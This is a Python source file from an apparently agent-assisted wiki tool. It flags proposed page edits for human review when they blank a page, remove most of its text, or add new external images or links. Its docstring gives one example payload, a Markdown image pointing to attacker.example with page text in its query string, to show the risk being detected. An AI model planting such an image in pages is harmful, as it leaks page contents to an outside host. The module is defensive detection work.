"""Flags on proposals a person should look at twice: they are shown in the review and never auto-approved.

A proposal is flagged when it
- blanks the page (an edit whose result has no text left);
- removes more than half of the page's text (the bytes of removed lines, against the base);
- adds an external image or link whose URL was not on the page before (an image is fetched by every
  reader's browser, so its URL can carry page text out: ``![x](https://attacker.example/c?d=SECRET)``).

For a new page or a comment every external URL is new; a proposed attachment's text is a file, not
page text, and is not searched for URLs (an SVG that loads anything is refused when proposed).
Links inside the site (``page:``, ``attachment:``, ``user:`` … in the Markdown dialect) are not
external. :func:`risks` works on the
Markdown only (no network), so the CLI, the TUI review and tests all see the same flags.
"""

from __future__ import annotations

import difflib
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workbench.agent.proposals import Proposal

REMOVED_SHARE = 0.5
# Markdown links and images ``[text](url)`` / ``![alt](url)``, autolinks ``<url>`` and bare URLs
_URL = re.compile(
    r"""(?:(!?)\[[^\]\n]*\]\(\s*<?([^)\s>]+)|<((?:https?|ftp)://[^>\s]+)>|((?:https?|ftp)://[^\s)<>\]"']+))""",
    re.IGNORECASE,
)
_WORDS = re.compile(r"\S+|\s+")
_WORD_DIFF_MAX = 20_000
_EXTERNAL = re.compile(r"^(?:https?|ftp)://|^//|^data:", re.IGNORECASE)


def external_urls(markdown: str) -> dict[str, str]:
    """External URLs in ``markdown`` → ``"image"`` or ``"link"`` (an image wins when both)."""
    found: dict[str, str] = {}
    for match in _URL.finditer(markdown):
        bang, target, auto, bare = match.groups()
        url = (target or auto or (bare or "").rstrip(".,;:!?") or "").strip()
        if not url or not _EXTERNAL.match(url):
            continue
        kind = "image" if bang else "link"
        if found.get(url) != "image":
            found[url] = kind
    return found


def risks(proposal: Proposal, markdown: str | None = None) -> list[str]:
    """Plain sentences, one per flag (empty: nothing unusual). ``markdown``: the result to judge
    (default: the whole proposal; the review passes the accepted result)."""
    # lazy, for start-up: workbench.agent.proposals loads on first use
    from workbench.agent.proposals import ATTACHMENT, EDIT

    before = proposal.before if proposal.kind == EDIT else ""
    after = proposal.after if markdown is None else markdown
    flags: list[str] = []
    if proposal.kind == EDIT and before.strip():
        if not after.strip():
            flags.append("It blanks the page: nothing of the page's text is left.")
        else:
            removed = removed_bytes(before, after)
            total = len(before.encode("utf-8"))
            if removed > REMOVED_SHARE * total:
                flags.append(
                    f"It removes {100 * removed // total}% of the page's text ({_size(removed)} of {_size(total)})."
                )
    if proposal.kind == ATTACHMENT:
        # a file, not page text: nothing in it is fetched by a reader's page (an SVG that would
        # load anything from elsewhere is refused when proposed: agent/attachment_proposals.py)
        return flags
    old = external_urls(before)
    for url, kind in external_urls(after).items():
        if url in old and not (kind == "image" and old[url] != "image"):
            continue
        what = f"an external {kind}" + (
            " that was not on the page" if proposal.kind == EDIT else ""
        )
        if kind == "image":
            what += " (every reader's browser loads it)"
        flags.append(f"It adds {what}: {_shown(url)}")
    return flags


def removed_bytes(before: str, after: str) -> int:
    """The bytes of ``before``'s text that ``after`` removes: lines first, then words inside changed lines
    (so rewording one sentence of a one-paragraph page does not count the whole paragraph)."""
    a = before.splitlines(keepends=True)
    b = after.splitlines(keepends=True)
    removed = 0
    for tag, i1, i2, j1, j2 in difflib.SequenceMatcher(None, a, b, autojunk=False).get_opcodes():
        if tag == "equal":
            continue
        old = "".join(a[i1:i2])
        if tag == "delete":
            removed += len(old.encode("utf-8"))
            continue
        old_words, new_words = _WORDS.findall(old), _WORDS.findall("".join(b[j1:j2]))
        if len(old_words) > _WORD_DIFF_MAX and len(new_words) > _WORD_DIFF_MAX:
            removed += len(old.encode("utf-8"))  # a rewrite this big is counted whole
            continue
        matcher = difflib.SequenceMatcher(None, old_words, new_words, autojunk=False)
        removed += sum(
            len("".join(old_words[k1:k2]).encode("utf-8"))
            for op, k1, k2, _, _ in matcher.get_opcodes()
            if op in ("delete", "replace")
        )
    return removed


def _shown(url: str, limit: int = 120) -> str:
    return url if len(url) <= limit else url[: limit - 1] + "…"


def _size(n: int) -> str:
    # lazy, for start-up: workbench.agent.outline loads on first use
    from workbench.agent.outline import human_size

    return human_size(n)
